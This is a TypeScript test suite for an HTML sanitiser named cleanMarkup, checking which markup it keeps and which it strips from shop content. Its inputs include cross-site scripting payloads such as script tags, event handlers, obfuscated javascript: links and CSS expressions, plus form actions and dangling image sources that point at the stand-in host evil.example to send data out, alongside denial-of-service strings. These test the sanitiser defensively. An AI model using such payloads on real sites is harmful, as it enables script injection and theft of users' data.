import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { cleanMarkup } from "./cleanMarkup.ts";

const HOMES = ["https://shop.example"];
const clean = (markup: string) => cleanMarkup(markup, HOMES);

describe("cleanMarkup", () => {
  it.each([
    '<h2 class="hero-title">Tea &amp; cake, from £5</h2>',
    '<p style="color:#b00;margin:0 auto;background-image:linear-gradient(90deg, #fff, rgb(0 0 0 / 50%))">It\'s <strong>on</strong></p>',
    '<a class="button" href="/c/table/?offer=TEA15&amp;x=1#top">See</a>',
    '<a href="https://other.example/" target="_blank" rel="sponsored noopener">Out</a>',
    '<a href="mailto:shop@shop.example">Write</a><a href="tel:+4512345678">Call</a>',
    '<picture><source srcset="a.avif 1x, b.avif 2x" type="image/avif"><img src="a.jpg" alt="" width="520" height="360" loading="lazy"></picture>',
    '<img srcset="/cdn/width=80,quality=75/a.jpg 320w, /b,c.jpg 1.5x" alt="">',
    '<figure><img src="data:image/png;base64,iVBORw0KGgo=" alt="A cup"><figcaption>A cup</figcaption></figure>',
    '<video src="https://cdn.example/v.mp4" controls poster="p.jpg" width="640" height="360" playsinline muted></video>',
    '<table><caption>Prices</caption><thead><tr><th scope="col" colspan="2">Tea</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
    '<form action="/newsletter" method="post"><label>E-mail <input type="email" name="email" required placeholder="you@example.com"></label><button type="submit">Join</button></form>',
    '<form action="https://shop.example/join?x=1"><button>Join</button></form>',
    "<details open><summary>More</summary><ul><li>One</li></ul></details>",
    'Good to see you, {{ traits.firstName | default: "there" }}',
    // To be refused with its place, which it keeps.
    '<a href="{{ traits.url }}">Tea</a>',
    '<img src="/{{ traits.url }}" width="{{ traits.x }}" style="color:{{ traits.x }}" class="{{ traits.x }}">',
    "<p>First\r\nsecond\r\nthird – ümlaut 日本 🫖</p>",
  ])("leaves %j as it is", (markup) => {
    expect(clean(markup)).toEqual({ markup, stripped: [] });
  });

  it.each([
    ["<script>alert(1)</script><p>a</p>", "<p>a</p>", "script was taken out"],
    ["<ScRiPt src=//evil.example></sCrIpT>a", "a", "script was taken out"],
    ['<img src="a.jpg" onerror="alert(1)" alt="">', '<img src="a.jpg" alt="">', "onerror of img was taken out"],
    ["<p ONCLICK=alert(1)>a</p>", "<p>a</p>", "onclick of p was taken out"],
    ['<a href="javascript:alert(1)">a</a>', "<a>a</a>", "href of a was taken out: javascript: is not allowed"],
    [
      '<a href=" &#1;Java&#x0A;Script:alert(1)">a</a>',
      "<a>a</a>",
      "href of a was taken out: javascript: is not allowed",
    ],
    [
      '<a href="data:text/html,<script>alert(1)</script>">a</a>',
      "<a>a</a>",
      "href of a was taken out: an address holds no markup",
    ],
    ['<a href="data:text/html;base64,PHA+">a</a>', "<a>a</a>", "href of a was taken out: data: is not allowed"],
    ['<img src="data:image/svg+xml,x" alt="">', '<img alt="">', "src of img was taken out: data: is not allowed"],
    ['<iframe srcdoc="<script>alert(1)</script>"></iframe>a', "a", "iframe was taken out"],
    [
      '<p style="background:url(https://evil.example/x)">a</p>',
      "<p>a</p>",
      "background in the style of p was taken out",
    ],
    ['<p style="width:expression(alert(1))">a</p>', "<p>a</p>", "width in the style of p was taken out"],
    [
      '<p style="color:red;position:fixed;top:0">a</p>',
      '<p style="color:red">a</p>',
      "position in the style of p was taken out",
    ],
    ["<p style=\"color:\\72 ed;background:u\\72l('x')\">a</p>", "<p>a</p>", "color in the style of p was taken out"],
    ["<svg><foreignObject><p>a</p></foreignObject></svg>b", "b", "svg was taken out"],
    ["<math><mtext><p>a</p></mtext></math>b", "b", "math was taken out"],
    ['<base href="https://evil.example/">a', "a", "base was taken out"],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example/">a', "a", "meta was taken out"],
    ['<link rel="stylesheet" href="https://evil.example/x.css">a', "a", "link was taken out"],
    [
      '<form action="https://evil.example/"><input name="a"></form>',
      '<form><input name="a"></form>',
      "action of form was taken out: a form is sent to the site itself",
    ],
    [
      '<form action="//evil.example/">a</form>',
      "<form>a</form>",
      "action of form was taken out: a form is sent to the site itself",
    ],
    [
      '<form action="https://shop.example.evil.example/">a</form>',
      "<form>a</form>",
      "action of form was taken out: a form is sent to the site itself",
    ],
    [
      '<button formaction="https://evil.example/">a</button>',
      "<button>a</button>",
      "formaction of button was taken out",
    ],
    ['<input type="password" name="p">', '<input name="p">', "type of input was taken out: its value is not allowed"],
    ["a<img src='https://evil.example/?", "a", "a tag that does not end was taken out"],
    ['<p id="config">a</p>', "<p>a</p>", "id of p was taken out"],
    ['<p data-rfedge-slot="other">a</p>', "<p>a</p>", "data-rfedge-slot of p was taken out"],
    ['<p x-on:click="alert(1)" @click="a()">a</p>', "<p>a</p>", "x-on:click of p was taken out"],
    [
      '<img srcset="javascript:alert(1) 1x" alt="">',
      '<img alt="">',
      "srcset of img was taken out: javascript: is not allowed",
    ],
    ['<a href="javascript:{{ traits.x }}">a</a>', "<a>a</a>", "href of a was taken out: javascript: is not allowed"],
    [
      '<img srcset="/a.png 1x, {{ traits.x }} 2x" alt="">',
      '<img alt="">',
      "srcset of img was taken out: it holds no merge field",
    ],
    ['<a href="/x" target="_blank">a</a>', '<a href="/x" target="_blank" rel="noopener">a</a>', null],
    ["<a href='/a'>a<b><a href='/b'>b</a></b>c</a>", '<a href="/a">a<b>b</b>c</a>', "a within a was taken out"],
    ["<a href='/a'>a</a><a href='/b'>b</a>", '<a href="/a">a</a><a href="/b">b</a>', null],
    [
      "<table><div>a<tr><p>b</p><td><p>c</p></td></tr></div></table>",
      "<table>a<tr>b<td><p>c</p></td></tr></table>",
      "p within tr was taken out",
    ],
    [
      `<p title='For {{ traits.firstName | default: "you" }}'>a</p>`,
      `<p title="For {{ traits.firstName | default: 'you' }}">a</p>`,
      null,
    ],
    ['<p class="a">a', '<p class="a">a</p>', null],
    ["a <!-- b --> c", "a  c", null],
  ])("makes of %j %j, and says so", (written, markup, note) => {
    const cleaned = clean(written);
    expect(cleaned.markup).toBe(markup);
    if (note === null) expect(cleaned.stripped).toEqual([]);
    else expect(cleaned.stripped).toContain(note);
  });

  it("says at most twenty things of one snippet", () => {
    const many = Array.from({ length: 30 }, (_, place) => `<p data-x${place}="1">a</p>`).join("");
    expect(clean(many).stripped).toHaveLength(21);
    expect(clean(many).stripped.at(-1)).toBe("and 10 more");
  });

  it("comes to the end of 64 KB that are meant to take long", () => {
    const most = 65_536;
    const long = ["<a>", "<a<", "<!--", "</i><b>", "&", "<p x='"].map((piece) => piece.repeat(most / piece.length));
    const within = ["<a href='x@x'>", "<p style='color:@x('>", "<img srcset='x@x'>", "<p title='@'>"].map((piece) =>
      piece.replace("@", " ".repeat(most)),
    );
    for (const written of [...long, ...within]) expect(clean(written).markup.length).toBeLessThan(6 * most);
  });

  it("cuts off what is nested deeper than any content, in time", () => {
    const deep = "<div>".repeat(10_000);
    expect(clean(deep).markup.split("<div>").length - 1).toBe(100);
  });

  it("never changes what it has cleaned, and leaves nothing that is not allowed", () => {
    const piece = fc.oneof(
      fc.constantFrom(
        "<p>",
        "</p>",
        "<a href='",
        "<img src=x ",
        "onerror=",
        "<svg>",
        "<style>",
        "<!--",
        "-->",
        "<![CDATA[",
        "]]>",
      ),
      fc.constantFrom(
        "javascript:",
        "&#x6a;",
        "<table>",
        "<form>",
        "</form>",
        "<title>",
        "</",
        "<math>",
        "<script>",
        "'",
        '"',
        "<",
      ),
      fc.constantFrom(
        " style='",
        "url(",
        "\\75",
        "/*",
        "{{",
        "}}",
        "&lt;",
        "&",
        "\u0000",
        "<noscript>",
        "</noscript>",
        "<template>",
      ),
      fc.string({ unit: "binary", maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 25 }), (pieces) => {
        const { markup } = clean(pieces.join(""));
        expect(clean(markup)).toEqual({ markup, stripped: [] });
        expect(markup).not.toMatch(/<(?:script|svg|math|style|iframe|base|meta|link|title|template|noscript|!)/i);
        expect(markup.replace(/"[^"]*"/g, "")).not.toMatch(/<[^>]*\son/i);
      }),
    );
  });
});
